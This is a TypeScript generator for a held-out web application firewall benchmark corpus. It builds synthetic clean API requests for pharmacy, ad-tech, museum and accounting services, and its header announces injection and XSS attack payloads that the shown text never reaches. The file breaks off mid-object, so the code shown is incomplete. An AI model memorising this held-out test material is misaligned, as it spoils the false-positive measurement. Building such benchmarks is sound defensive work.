// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out corpus 20 for the WAF API profile, written blind (without reading the WAF source, its docs,
 * its tests or the other corpora) so that false positives are measured on traffic whose author did not
 * know what the WAF tolerates.
 *
 * Domains (clean traffic): online pharmacy & e-prescriptions, real-time bidding / ad-tech campaign
 * management, museum & digital archive collections, fintech accounting / bookkeeping, IoT smart-building
 * & facilities, legal case management, developer CI/CD platform, language-learning app.
 *
 * Attacks: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell and xss
 * payloads hidden in the same endpoints (nested fields, keys, arrays, \u escapes, JSON in strings,
 * URL/base64/double encoding, GraphQL variables, query strings, headers, form and multipart bodies).
 *
 * Deterministic: every random choice comes from a seeded mulberry32 PRNG; no clock, no Math.random.
 *
 * Run: `node bench/waf/corpus/heldout20.ts` writes clean-heldout20.json and attacks-heldout20.json next to
 * this file and prints the counts.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Req = Omit<CorpusRequest, 'id'>;
type Json = unknown;

/** mulberry32: tiny seeded PRNG returning floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rng = mulberry32(0x2020_0b1d);
const int = (lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)] as T;
const chars = (alphabet: string, n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rng() * alphabet.length)];
  return s;
};
const hex = (n: number): string => chars('0123456789abcdef', n);
const alnum = (n: number): string =>
  chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', n);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const pad = (n: number): string => String(n).padStart(2, '0');
const date = (): string => `2026-${pad(int(1, 11))}-${pad(int(1, 28))}`;
const ts = (): string =>
  `${date()}T${pad(int(0, 23))}:${pad(int(0, 59))}:${pad(int(0, 59))}.${int(100, 999)}Z`;
const money = (lo: number, hi: number): string => (int(lo * 100, hi * 100) / 100).toFixed(2);
const enc = encodeURIComponent;
const qs = (o: Record<string, string | number | boolean>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)',
  'axios/1.7.7',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'PostmanRuntime/7.42.0',
  'curl/8.5.0',
];

function jwt(sub: string): string {
  const header = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: hex(16) }));
  const payload = b64url(
    JSON.stringify({
      sub,
      iss: 'https://auth.example.com/',
      aud: 'api',
      iat: 1790000000 + int(0, 9e6),
      scope: 'read write',
    }),
  );
  return `${header}.${payload}.${chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_', 86)}`;
}

function baseHeaders(extra: Record<string, string> = {}): Record<string, string> {
  return {
    'user-agent': pick(UAS),
    accept: 'application/json',
    authorization: rng() < 0.8 ? `Bearer ${jwt(`usr_${alnum(10)}`)}` : `ApiKey ${alnum(32)}`,
    'x-request-id': uuid(),
    ...extra,
  };
}

const get = (kind: string, path: string, extra: Record<string, string> = {}): Req => ({
  kind,
  method: 'GET',
  path,
  headers: baseHeaders(extra),
  body: '',
});
const del = (path: string): Req => ({
  kind: 'delete',
  method: 'DELETE',
  path,
  headers: baseHeaders(),
  body: '',
});
const json = (kind: string, method: string, path: string, body: Json, ct = 'application/json'): Req => ({
  kind,
  method,
  path,
  headers: baseHeaders({ 'content-type': ct }),
  body: JSON.stringify(body),
});
const gql = (path: string, query: string, variables: Json, operationName?: string): Req =>
  json('graphql', 'POST', path, operationName ? { operationName, query, variables } : { query, variables });
const persisted = (path: string, op: string, variables: Json): Req =>
  get(
    'graphql',
    `${path}?operationName=${op}&variables=${enc(JSON.stringify(variables))}&extensions=${enc(
      JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }),
    )}`,
  );
const form = (path: string, fields: Record<string, string>): Req => ({
  kind: 'form',
  method: 'POST',
  path,
  headers: baseHeaders({ 'content-type': 'application/x-www-form-urlencoded' }),
  body: qs(fields),
});
interface Part {
  readonly name: string;
  readonly filename?: string;
  readonly type?: string;
  readonly content: string;
}
function multipart(path: string, parts: readonly Part[], method = 'POST'): Req {
  const boundary = `----WebKitFormBoundary${alnum(16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type !== undefined) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.content}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return {
    kind: 'multipart',
    method,
    path,
    headers: baseHeaders({ 'content-type': `multipart/form-data; boundary=${boundary}` }),
    body,
  };
}
const ndjson = (path: string, lines: readonly Json[]): Req => ({
  kind: 'ndjson',
  method: 'POST',
  path,
  headers: baseHeaders({ 'content-type': 'application/x-ndjson' }),
  body: `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`,
});
const fakePdf = (): string =>
  `%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\nstream\n${b64(alnum(120))}\nendstream\n%%EOF`;
const fakeJpeg = (): string => `ÿØÿà\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000H\u0000H${alnum(200)}ÿÙ`;

/* ------------------------------------------------------------------ pools */

const NAMES = [
  'María José Fernández',
  "Siobhan O'Connor",
  'Nguyễn Thị Hương',
  'Jean-Luc Lefèvre',
  'Анна Кузнецова',
  '田中 裕子',
  'Oluwaseun Adeyemi',
  'Zoë Müller-Schmidt',
  'Björn Ångström',
  'Priya Raghunathan',
  "D'Angelo Russo",
  'محمد العلي',
];
const STREETS = [
  '221B Baker St, Apt #2',
  '1600 Amphitheatre Pkwy',
  'Calle de Alcalá 48, 3º izq.',
  'Rue du Faubourg Saint-Honoré 55',
  'Hauptstraße 12 / Hinterhaus',
  '4-2-8 Shibakoen, Minato-ku',
  "O'Farrell St & Powell St (corner)",
  'PO Box 1234',
];
const CITIES = [
  'Springfield, IL 62704',
  'Madrid 28014',
  'Paris 75008',
  'Berlin 10115',
  'Tokyo 105-0011',
  'Dublin D02 X285',
];
const email = (): string =>
  `${pick(['j.smith', 'maria.f', 'ops+alerts', 'billing', 'dr.okafor', 'o.brien', 'nguyen.h', 'zoe_m'])}${int(1, 99)}@${pick(['example.com', 'mail.example.org', 'firm-law.example', 'clinic.example.net'])}`;

/* ------------------------------------------------------------------ 1. pharmacy */

const DRUGS = [
  ['Amoxicillin 500 mg capsule', '00093-3109-01'],
  ['Lisinopril 10 mg tablet', '68180-0513-01'],
  ['Metformin HCl ER 750 mg', '00378-7185-01'],
  ['Atorvastatin 20 mg tablet', '00071-0155-23'],
  ['Levothyroxine 75 mcg', '00074-5182-90'],
  ['Sertraline 50 mg tablet', '16714-0612-01'],
  ['Albuterol HFA 90 mcg/actuation inhaler', '00173-0682-20'],
  ['Insulin glargine 100 units/mL (3 mL pen)', '00088-2219-05'],
] as const;
const SIGS = [
  'Take 1 capsule by mouth 3 times daily for 10 days',
  'Take 1 tablet by mouth once daily in the morning; hold if SBP < 100',
  'Inhale 2 puffs q4-6h PRN wheezing/SOB; max 12 puffs/24h',
  'Inject 18 units subcut at bedtime; titrate +2 units q3d until FBG 80-130 mg/dL',
  '1 tab PO QHS x 30d, then 2 tabs PO QHS',
  'Take ½ tablet (25 mg) daily × 7 days, then 1 tablet daily',
];
const PHARM_QUESTIONS = [
  "Can I take ibuprofen with lisinopril? My doctor said 'avoid NSAIDs' but the box says it's OK for adults.",
  '¿Puedo tomar el antibiótico con leche? La etiqueta dice "evitar productos lácteos" y no sé si el yogur cuenta.',
  "J'ai oublié ma dose de ce matin — est-ce que je la prends maintenant ou j'attends demain ?",
  'My refill says 0 refills left / expired 03/2026. Can you contact Dr. Patel (NPI 1234567893) for a renewal?',
  'Is the generic (Teva) the same as the brand? Last batch tasted different & gave me a headache <- normal?',
  'Ich nehme Marcumar; darf ich zusätzlich Omega-3 (1000 mg) einnehmen?',
  'Insurance rejected: "Refill too soon – 75% rule". I travel on 12/20 for 6 weeks; need a vacation override.',
  '服用する時間は食前と食後のどちらがいいですか？',
];

function pharmacy(i: number): Req {
  const [drug, ndc] = pick(DRUGS);
  const api = '/rx/v2';
  switch (i % 12) {
    case 0:
      return get(
        'rest-get',
        `${api}/products?${qs({ q: pick(['ibuprofen 400mg', 'vitamin d3 2000 IU', "children's tylenol", 'omega-3 & fish oil', 'test strips (50 ct)']), in_stock: true, sort: '-popularity', 'page[size]': 24, 'page[number]': int(1, 5) })}`,
      );
    case 1:
      return json('rest-write', 'POST', `${api}/prescriptions`, {
        prescription: {
          external_id: `ERX-${int(100000, 999999)}`,
          patient: {
            name: pick(NAMES),
            dob: `19${int(40, 99)}-${pad(int(1, 12))}-${pad(int(1, 28))}`,
            allergies: pick([['sulfa', 'penicillin'], [], ['latex'], ['NKDA']]),
          },
          prescriber: {
            npi: String(int(1000000000, 1999999999)),
            dea: `B${alnum(1).toUpperCase()}${int(1000000, 9999999)}`,
            name: 'Dr. Amara Okafor, MD',
          },
          medication: {
            ndc,
            description: drug,
            sig: pick(SIGS),
            quantity: int(10, 90),
            days_supply: pick([10, 30, 90]),
            refills: int(0, 5),
            daw: rng() < 0.2,
          },
          notes: pick([
            'Pt allergic to sulfa; OK to substitute generic',
            'Prior auth #PA-88213 approved 11/02',
            'Dx: E11.9 (T2DM w/o complications)',
            '',
          ]),
          signed_at: ts(),
        },
      });
    case 2:
      return json(
        'merge-patch',
        'PATCH',
        `${api}/orders/ORD-${int(100000, 999999)}`,
        {
          shipping_address: {
            line1: pick(STREETS),
            city: pick(CITIES),
            country: pick(['US', 'ES', 'FR', 'DE', 'JP', 'IE']),
          },
          delivery_notes: pick([
            'Leave w/ concierge -- do NOT leave at door',
            'Ring bell twice; dog is friendly :)',
            'Cold-chain: insulin, keep 2–8 °C',
            null,
          ]),
          phone: `+1 (${int(200, 999)}) ${int(200, 999)}-${int(1000, 9999)}`,
        },
        'application/merge-patch+json',
      );
    case 3:
      return gql(
        '/graphql',
        'query DrugInteractions($ndcs: [String!]!, $severity: Severity) { interactions(ndcs: $ndcs, minSeverity: $severity) { pair { a b } severity description references { pmid } } }',
        { ndcs: [ndc, pick(DRUGS)[1]], severity: pick(['MODERATE', 'MAJOR']) },
        'DrugInteractions',
      );
    case 4:
      return form('/account/checkout/coupon', {
        coupon: pick(['WELCOME10', 'FLU-SHOT-2026', 'RX5OFF']),
        cart_id: uuid(),
        csrf_token: alnum(40),
      });
    case 5:
      return multipart(`${api}/insurance-cards`, [
        { name: 'member_id', content: `W${int(100000000, 999999999)}` },
        { name: 'group_number', content: `GRP-${int(1000, 99999)}` },
        { name: 'front', filename: 'IMG_20261102_0931.jpg', type: 'image/jpeg', content: fakeJpeg() },
        { name: 'back', filename: 'card back (1).jpg', type: 'image/jpeg', content: fakeJpeg() },
      ]);
    case 6:
      return json('cms-html', 'PUT', `/cms/api/products/SKU-${int(10000, 99999)}`, {
        product: {
          title: drug,
          description_html: `<h2>Uses</h2><p>${drug} is used to treat <strong>${pick(['high blood pressure', 'bacterial infections', 'type 2 diabetes'])}</strong>.</p><ul><li>Take with a full glass of water</li><li>Do not crush or chew ER tablets</li></ul><p class="warning">⚠️ Keep out of reach of children. See <a href="https://dailymed.nlm.nih.gov/dailymed/search.cfm?query=${enc(ndc)}" target="_blank" rel="noopener">full prescribing information</a>.</p><table><tr><th>Strength</th><td>${pick(['10 mg', '500 mg', '75 mcg'])}</td></tr></table>`,
          seo: {
            slug: drug.toLowerCase().replace(/[^a-z0-9]+/g, '-'),
            meta_description: `Buy ${drug} online — fast delivery, licensed pharmacists.`,
          },
        },
      });
    case 7:
      return json('prose', 'POST', `${api}/pharmacist-questions`, {
        question: pick(PHARM_QUESTIONS),
        order_id: rng() < 0.5 ? `ORD-${int(100000, 999999)}` : null,
        preferred_contact: pick(['sms', 'email', 'phone']),
        locale: pick(['en-US', 'es-MX', 'fr-FR', 'de-DE', 'ja-JP']),
      });
    case 8:
      return del(`${api}/cart/items/${uuid()}`);
    case 9:
      return get(
        'search',
        `${api}/search?q=${enc(pick(['"vitamin d3" OR cholecalciferol -gummies', 'allergy relief (non-drowsy)', 'melatonin 5mg|10mg', 'zinc + vitamin c', 'pain relief -aspirin']))}&facets=brand,form&price_max=${int(10, 60)}`,
      );
    case 10:
      return json('rest-write', 'POST', `${api}/refill-requests`, {
        refill: {
          rx_number: `${int(1000000, 9999999)}-${int(10, 99)}`,
          pharmacy_ncpdp: String(int(1000000, 9999999)),
          pickup: pick(['delivery', 'store']),
          note: pick(['Need by Friday pls', 'Same as last time.', 'Switch to 90-day supply if covered']),
        },
      });
    default:
      return json(
        'json-patch',
        'PATCH',
        `${api}/patients/${uuid()}/profile`,
        [
          { op: 'replace', path: '/contact/email', value: email() },
          { op: 'add', path: '/allergies/-', value: pick(['codeine', 'peanuts', 'iodinated contrast']) },
          { op: 'remove', path: '/preferences/paper_receipts' },
        ],
        'application/json-patch+json',
      );
  }
}

/* ------------------------------------------------------------------ 2. ad-tech */

const DOMAINS = [
  'news.example.com',
  'recipes.example.org',
  'm.sportsdaily.example',
  'forum.example.net',
  'weather.example.io',
];

function adtech(i: number): Req {
  const api = '/dsp/v1';
  switch (i % 11) {
    case 0:
      return json('rest-write', 'POST', `${api}/campaigns`, {
        campaign: {
          name: pick([
            'Q4 Holiday — Retargeting (US)',
            'BF/CM 2026 | Prospecting | CTV',
            'Brand lift: "Summer of Yes"',
            'App installs – iOS 17+ / DE,AT,CH',
          ]),
          advertiser_id: int(1000, 9999),
          budget: { daily_micros: int(50, 5000) * 1_000_000, currency: pick(['USD', 'EUR', 'GBP']) },
          flight: { start: ts(), end: ts() },
          targeting: {
            geo: { include: ['US-CA', 'US-NY', 'CA-ON'], exclude: ['US-CA-807'] },
            audience: {
              and: [
                { or: [{ segment: 'seg_1842' }, { segment: 'seg_2291' }] },
                { not: { segment: 'seg_converters_30d' } },
              ],
            },
            dayparting: [
              { days: ['MON', 'TUE', 'WED', 'THU', 'FRI'], hours: '07-10,17-22', tz: 'America/New_York' },
            ],
            inventory: { deals: [`deal-${alnum(8)}`], blocked_domains: [pick(DOMAINS)] },
          },
          bid_strategy: {
            type: pick(['max_conversions', 'target_cpa', 'fixed_cpm']),
            target_cpa_micros: int(1, 40) * 1_000_000,
          },
          frequency_cap: { impressions: 3, per: 'day' },
        },
      });
    case 1:
      return json('rest-write', 'POST', '/rtb/openrtb2/bid', {
        id: uuid(),
        imp: [
          {
            id: '1',
            banner: { w: 300, h: 250, pos: 1 },
            bidfloor: Number(money(0, 3)),
            bidfloorcur: 'USD',
            secure: 1,
            tagid: `div-gpt-ad-${int(1e12, 9e12)}-0`,
          },
        ],
        site: {
          domain: pick(DOMAINS),
          page: `https://${pick(DOMAINS)}/2026/${pad(int(1, 12))}/article-${int(1000, 9999)}?utm_source=newsletter&utm_medium=email&utm_campaign=weekly_digest&fbclid=${alnum(24)}`,
          ref: 'https://www.google.com/',
          cat: ['IAB12', 'IAB12-2'],
        },
        device: {
          ua: pick(UAS),
          ip: `${int(11, 220)}.${int(0, 255)}.${int(0, 255)}.0`,
          devicetype: 2,
          geo: { country: 'USA', region: 'CA', lat: 37.77, lon: -122.41 },
        },
        user: {
          id: hex(32),
          ext: {
            consent: `CP${alnum(30)}AAAA.YAAAAAAAAAAA`,
            eids: [{ source: 'id5-sync.com', uids: [{ id: `ID5*${alnum(40)}` }] }],
          },
        },
        regs: { ext: { gdpr: 1, us_privacy: '1YNN' } },
        tmax: 120,
      });
    case 2:
      return json('cms-html', 'PUT', `${api}/creatives/cr_${alnum(10)}`, {
        creative: {
          name: `300x250_${pick(['holiday', 'promo', 'retarget'])}_v${int(1, 9)}`,
          format: 'html5',
          html: `<div id="ad" style="width:300px;height:250px;cursor:pointer" onclick="window.open('%%CLICK_URL_UNESC%%https%3A%2F%2Fshop.example.com%2Fsale%3Fcid%3D${int(100, 999)}')"><img src="https://cdn.adserver.example/assets/${hex(12)}.png" width="300" height="250" alt="Sale"></div><script src="https://cdn.adserver.example/js/viewability.js" data-imp="\${AUCTION_ID}" data-price="\${AUCTION_PRICE}"></script><img src="https://px.adserver.example/i?cb=%%CACHEBUSTER%%&id=\${AUCTION_IMP_ID}" style="display:none">`,
          click_url: `https://shop.example.com/sale?cid=${int(100, 999)}&utm_content={creative_id}`,
          adomain: ['shop.example.com'],
        },
      });
    case 3:
      return get(
        'rest-get',
        `${api}/reports?metrics=impressions,clicks,ctr,spend,ecpm&dimensions=date,creative_id,exchange&filter=${enc(pick(['spend>100;country==US', 'ctr>=0.5,exchange=in=(openx,magnite)', 'clicks>0;creative_id!=cr_test']))}&start=${date()}&end=${date()}&tz=UTC&format=json`,
      );
    case 4:
      return json(
        'json-patch',
        'PATCH',
        `${api}/line-items/li_${int(10000, 99999)}`,
        [
          { op: 'replace', path: '/bid/cpm_micros', value: int(500, 9000) * 1000 },
          { op: 'add', path: '/targeting/blocked_domains/-', value: pick(DOMAINS) },
          { op: 'test', path: '/status', value: 'active' },
        ],
        'application/json-patch+json',
      );
    case 5:
      return ndjson(
        `${api}/events/bulk`,
        Array.from({ length: int(3, 8) }, () => ({
          type: pick(['impression', 'click', 'viewable', 'conversion']),
          ts: ts(),
          auction_id: uuid(),
          price_micros: int(100, 9000) * 100,
          page: `https://${pick(DOMAINS)}/?q=${enc(pick(['best running shoes', 'black friday deals', 'cheap flights to nyc']))}`,
        })),
      );
    case 6:
      return get(
        'rest-get',
        `/track/conv?click_id=${alnum(22)}&payout=${money(1, 40)}&currency=USD&sub1=${enc(pick(['fb|lookalike_3%', 'google/pmax', 'tiktok_spark']))}&sub2=${int(1000, 9999)}&event=${pick(['purchase', 'lead', 'install'])}`,
      );
    case 7:
      return gql(
        '/graphql',
        'mutation UpdateAudience($id: ID!, $rules: AudienceRulesInput!) { updateAudience(id: $id, rules: $rules) { id estimatedReach updatedAt } }',
        {
          id: `aud_${alnum(8)}`,
          rules: {
            expression: pick([
              '(visited:/checkout AND NOT purchased:30d) OR cart_value > 150',
              'app_open >= 3 in 7d',
              'url contains "/pricing" AND referrer != "google"',
            ]),
            lookback_days: 30,
          },
        },
        'UpdateAudience',
      );
    case 8:
      return multipart(`${api}/audiences/upload`, [
        { name: 'audience_name', content: pick(['CRM match – VIP 2026', 'Lapsed buyers (>180d)']) },
        { name: 'hashing', content: 'sha256' },
        {
          name: 'file',
          filename: 'customers_hashed.csv',
          type: 'text/csv',
          content: `email_sha256,phone_sha256\n${hex(64)},${hex(64)}\n${hex(64)},\n${hex(64)},${hex(64)}`,
        },
      ]);
    case 9:
      return del(`${api}/deals/deal-${alnum(8)}`);
    default:
      return persisted('/graphql', 'CampaignPacing', {
        campaignId: `cmp_${alnum(8)}`,
        granularity: 'HOUR',
        from: date(),
      });
  }
}

/* ------------------------------------------------------------------ 3. museum */

const TITLES = [
  {
    en: 'The Great Wave off Kanagawa',
    ja: '神奈川沖浪裏',
    maker: 'Katsushika Hokusai (葛飾北斎)',
    date: 'ca. 1830–32',
  },
  {
    en: 'Astrolabe with Arabic inscriptions',
    ar: 'أسطرلاب بنقوش عربية',
    maker: 'Muḥammad ibn Ḥāmid al-Iṣfahānī',
    date: 'AH 1012 / 1603 CE',
  },
  {
    en: 'Icon of St. Nicholas',
    ru: 'Икона святителя Николая',
    maker: 'Unknown (Novgorod school)',
    date: '15th century',
  },
  {
    en: 'Red-figure kylix',
    el: 'Ερυθρόμορφη κύλικα',
    maker: 'Attributed to the Brygos Painter',
    date: 'ca. 490–480 BCE',
  },
  { en: 'Letter from a Union soldier', maker: 'Pvt. Thos. McAllister, 69th N.Y.', date: 'Jan. 3d, 1863' },
  {
    en: 'Tapisserie aux licornes (fragment)',
    fr: 'Tapisserie aux licornes',
    maker: 'Atelier des Pays-Bas méridionaux',
    date: '1495–1505',
  },
];
const TRANSCRIPTS = [
  'Dear Mother, — I take my pen in hand to let you know that I am well & hope these few lines will find you the same. We marched 18 miles yesterday; the roads are awful. Tell Sarah not to fret. Yr affec. son, Thos.',
  'Item: to Jno. Smith for 3 bushells of corne ... 4s. 6d.\nItem: paid the smith for mending ye plough-share ... 1s.\nSumma totalis: £2 13s. 4d.',
  'Anno Domini MDCXII, die vero xiiii mensis Martii, ego Petrus notarius publicus ... [illegible] ... in domo habitationis dicti testatoris.',
  'Lieber Bruder! Die Überfahrt war schrecklich — 23 Tage auf See; viele waren krank. Gott sei Dank sind wir in New-York angekommen.',
  'Select Committee on the Museum — Minutes. Resolved: that the Curator be empowered to purchase the collection of shells for a sum not exceeding £40; and that the order of the 12th ult. be rescinded.',
  'Querida hermana: Te escribo desde Veracruz. ¿Recibiste el baúl? Dentro van las cartas de papá y el rosario de la abuela.',
];

function museum(i: number): Req {
  const t = pick(TITLES);
  const obj = `${int(1900, 2026)}.${int(1, 400)}.${int(1, 40)}`;
  switch (i % 11) {
    case 0:
      return get(
        'search',
        `/collections/api/objects?q=${enc(pick(['maker:"Hokusai" AND date:[1830 TO 1835]', 'title:(wave OR waves) -reproduction', 'medium:"oil on canvas" AND dept:European', 'culture:Greek* AND technique:"red-figure"', 'provenance:"Rothschild" NOT restituted:true']))}&lang=${pick(['en', 'ja', 'fr', 'ar'])}&rows=50&start=${int(0, 10) * 50}&fl=id,title,maker,thumbnail`,
      );
    case 1:
      return json('rest-write', 'PUT', `/collections/api/objects/${obj}`, {
        object: {
          accession_number: obj,
          titles: Object.entries(t)
            .filter(([k]) => k.length === 2)
            .map(([lang, value]) => ({ lang, value })),
          maker: t.maker,
          date_display: t.date,
          medium: pick([
            'Woodblock print; ink and color on paper',
            'Brass, engraved',
            'Tempera and gold leaf on panel',
            'Iron-gall ink on laid paper',
          ]),
          dimensions: pick(['25.7 × 37.9 cm (10 1/8 × 14 15/16 in.)', 'Diam. 14.3 cm', 'H. 9 ¼ in.']),
          provenance: pick([
            "Sold, Christie's, London, 12 June 1912, lot 47; [Yamanaka & Co., New York]; purchased by the Museum, 1923.",
            'Estate of Mrs. H. O. Havemeyer; bequest, 1929 (29.100.5).',
            '(?) Acquired in Cairo c. 1890; by descent; gift of the family, 2004.',
          ]),
          credit_line: "Gift of Anonymous Donor, in memory of J. & R. O'Neill",
          rights: 'CC0 1.0',
        },
      });
    case 2:
      return json('cms-html', 'POST', `/collections/api/objects/${obj}/transcriptions`, {
        transcription: {
          page: int(1, 12),
          text: pick(TRANSCRIPTS),
          html: `<div class="tei"><p><span class="line" data-n="1">${pick(['Dear Mother,', 'Lieber Bruder!', 'Item: to Jno. Smith'])}</span><br/><del rend="strikethrough">wee</del> <add place="above">we</add> marched <unclear reason="faded">18</unclear> miles</p><note type="editorial">[sic] <em>roads</em> — orig. spelling retained</note></div>`,
          language: pick(['en', 'de', 'la', 'es']),
          transcriber: pick(['volunteer:mkaur', 'volunteer:jdoe_1987', 'staff:archivist2']),
          confidence: Number((0.6 + rng() * 0.4).toFixed(2)),
        },
      });
    case 3:
      return json(
        'jsonapi',
        'POST',
        '/collections/api/v1/exhibitions',
        {
          data: {
            type: 'exhibitions',
            attributes: {
              title: pick([
                'Waves & Winds: Japanese Prints 1800–1860',
                'Al-Andalus: Science & Ornament',
                'Lettres de l’exil',
              ]),
              opens: date(),
              closes: date(),
              summary:
                'Curated by Dr. Keiko Tanaka & Prof. Ahmed El-Sayed; 84 works, many shown for the first time.',
            },
            relationships: {
              objects: {
                data: [
                  { type: 'objects', id: obj },
                  { type: 'objects', id: `${int(1900, 2020)}.${int(1, 99)}` },
                ],
              },
            },
          },
        },
        'application/vnd.api+json',
      );
    case 4:
      return get(
        'rest-get',
        `/iiif/3/${hex(24)}/full/!${pick([400, 800, 1200])},${pick([400, 800, 1200])}/0/default.jpg`,
        {
          accept: 'image/webp,image/avif,image/*,*/*;q=0.8',
        },
      );
    case 5:
      return gql(
        '/collections/graphql',
        'query Search($q: String!, $filters: [FilterInput!], $after: String) { search(q: $q, filters: $filters, first: 40, after: $after) { totalCount edges { node { id title(lang: "en") maker { name } images { iiifBase } } } pageInfo { endCursor hasNextPage } } }',
        {
          q: pick(['Hokusai', 'astrolabe', 'икона', 'κύλιξ', 'lettre']),
          filters: [
            { field: 'hasImage', eq: 'true' },
            { field: 'date', gte: '1500', lte: '1900' },
          ],
          after: rng() < 0.5 ? b64(`cursor:${int(1, 999)}`) : null,
        },
      );
    case 6:
      return multipart(`/collections/api/objects/${obj}/media`, [
        {
          name: 'caption',
          content: pick(['Recto, raking light', 'Verso — collector’s stamp (Lugt 2187)', '細部（左下）']),
        },
        { name: 'photographer', content: 'Imaging Dept. / J. Ortiz' },
        {
          name: 'file',
          filename: `${obj.replace(/\./g, '_')}_recto.tif`,
          type: 'image/tiff',
          content: `II*\u0000${alnum(160)}`,
        },
      ]);
    case 7:
      return json('prose', 'POST', `/collections/api/objects/${obj}/comments`, {
        comment: {
          body: pick([
            'I believe the date should be 1832 rather than 1830 — see Lane, "Hokusai: Life and Work" (1989), p. 187.',
            'Mon arrière-grand-père figure peut-être sur cette photo (3e à gauche) ! Qui puis-je contacter ?',
            'The inscription reads «عمل محمد بن حامد» — the catalog entry transliterates it incorrectly.',
            'Эта икона очень похожа на ту, что была в нашей церкви до 1937 года.',
            'Tag request: "Women in STEM", "navigation", "Safavid".',
          ]),
          author: pick(NAMES),
        },
      });
    case 8:
      return json(
        'merge-patch',
        'PATCH',
        `/collections/api/objects/${obj}`,
        {
          on_view: rng() < 0.5,
          gallery: pick(['G-214', 'Sackler Wing 3', null]),
          keywords: ['ukiyo-e', 'seascape', 'Mt. Fuji'],
        },
        'application/merge-patch+json',
      );
    case 9:
      return ndjson(
        '/collections/api/bulk/import',
        Array.from({ length: int(3, 6) }, () => {
          const x = pick(TITLES);
          return {
            accession_number: `${int(1900, 2026)}.${int(1, 400)}`,
            title: x.en,
            maker: x.maker,
            date_display: x.date,
            source: 'legacy-TMS-export',
          };
        }),
      );
    default:
      return get(
        'rest-get',
        `/collections/api/oai?verb=ListRecords&metadataPrefix=oai_dc&set=${pick(['prints', 'manuscripts', 'photographs'])}&from=${date()}`,
        {
          accept: 'application/xml',
        },
      );
  }
}

/* ------------------------------------------------------------------ 4. accounting */

const BANK_DESCS = [
  'POS PURCHASE 04/12 AMZN Mktp US*2K4LL0 AMZN.COM/BILL WA',
  'ACH DEBIT -- IRS USATAXPYMT 270645812345678',
  'WIRE IN /ORG=ACME GMBH /REF=INV-2026-0042 /BNF=',
  'SQ *BLUE BOTTLE COFFEE Oakland CA',
  "CHECK #1043 -- O'BRIEN PLUMBING & HEATING",
  'STRIPE TRANSFER ST-X7Y8Z9 ; PAYOUT',
  'Zelle payment to 田中 for "October rent (50%)"',
  'UBER   *TRIP HELP.UBER.COM',
];

function accounting(i: number): Req {
  const api = '/ledger/v1';
  switch (i % 11) {
    case 0: {
      const amt = money(100, 25000);
      return json('rest-write', 'POST', `${api}/journal-entries`, {
        journal_entry: {
          date: date(),
          memo: pick([
            'Reclass Q3 accrual -- per CFO; see JE #1042 & #1043',
            'Reverse dup. entry (posted 2x on 10/31)',
            'Depreciation – Nov 2026 (straight-line, 36 mo.)',
            'FX revaluation EUR→USD @ 1.0842',
          ]),
          lines: [
            {
              account: pick(['6100-Rent', '6400-Software', '1500-Fixed Assets', '2100-Accrued Liabilities']),
              debit: amt,
              credit: '0.00',
              class: 'Ops/West',
            },
            {
              account: pick(['1000-Cash:Operating', '2000-Accounts Payable', '1590-Accum. Depreciation']),
              debit: '0.00',
              credit: amt,
            },
          ],
          attachments: [`s3://ledger-docs/${uuid()}.pdf`],
        },
      });
    }
    case 1:
      return ndjson(
        `${api}/bank-feeds/${uuid()}/transactions`,
        Array.from({ length: int(4, 9) }, () => ({
          posted: date(),
          amount: (rng() < 0.7 ? '-' : '') + money(2, 4000),
          description: pick(BANK_DESCS),
          fitid: `${int(1e9, 9e9)}`,
          balance: money(1000, 90000),
        })),
      );
    case 2:
      return json('rest-write', 'POST', `${api}/documents/${uuid()}/ocr`, {
        engine: 'tesseract-5',
